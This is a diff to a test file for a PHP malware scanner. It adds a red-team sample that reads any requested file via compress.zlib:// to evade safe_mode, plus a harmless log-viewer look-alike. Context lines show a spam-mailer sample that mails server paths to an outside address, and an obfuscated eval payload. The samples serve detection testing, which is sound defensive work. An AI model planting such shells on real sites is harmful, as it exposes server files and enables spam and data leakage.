@@ -84,6 +84,11 @@ const MALICIOUS: [string, string, string][] = [
     '/var/www/html/mailer.php',
     `<?php\nforeach (explode("\\n", $_POST['list'] ?? '') as $to) { mail(trim($to), $_POST['subject'] ?? '', $_POST['body'] ?? ''); }\n$m = $_SERVER['HTTP_HOST'] . "\\n" . $_SERVER['DOCUMENT_ROOT'] . "\\n" . $_SERVER['SCRIPT_FILENAME'];\n$to = "someone.example@gmail.com"; mail($to, "here", $m);\n`,
   ],
+  [
+    'a page reading the file the request names through compress.zlib://, around safe_mode (held-out set H22)',
+    '/var/www/html/sm.php',
+    `<?php\nif (ini_get('safe_mode')) echo 'safe mode is on';\n$file = $_GET['file'] ?? $_POST['file'] ?? '';\n$tmp = tempnam('/tmp', 'x');\nif (copy("compress.zlib://" . $file, $tmp)) { echo htmlspecialchars(file_get_contents($tmp)); unlink($tmp); }\n`,
+  ],
 ];
 
 const SUSPICIOUS: [string, string, string][] = [
@@ -99,6 +104,11 @@ const SUSPICIOUS: [string, string, string][] = [
 ];
 
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'a log viewer reading the rotated .gz log the request picks through compress.zlib://',
+    '/var/www/html/logs.php',
+    `<?php\n$logs = array('access.log.2.gz', 'error.log.2.gz');\n$pick = $logs[(int) ($_GET['i'] ?? 0)] ?? $logs[0];\n$path = '/var/log/app/' . $pick;\necho '<pre>' . htmlspecialchars(file_get_contents('compress.zlib://' . $path)) . '</pre>';\n`,
+  ],
   [
     'a contact form mailing a literal free-mail address the visitor\'s message and the page it came from',
     '/var/www/html/contact.php',
@@ -178,7 +188,7 @@ describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', 
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 26));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 27));
   for (const [name, path, src] of SUSPICIOUS) {
     it(`flagged: ${name}`, () => {
       const r = scan(src, path);
@@ -192,7 +202,7 @@ describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', 
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
   it('reads a function head followed by a megabyte of spaces in bounded time, and finds nothing there', () => {
     const r = scan(`<?php\n$p = '${blob(3000, 50)}';\n$x = gzinflate(base64_decode($p));\neval($y);\nfunction${' '.repeat(1_000_000)}(`, '/var/www/html/sp.php');
     assert.notEqual(r.verdict, 'malicious', why(r));
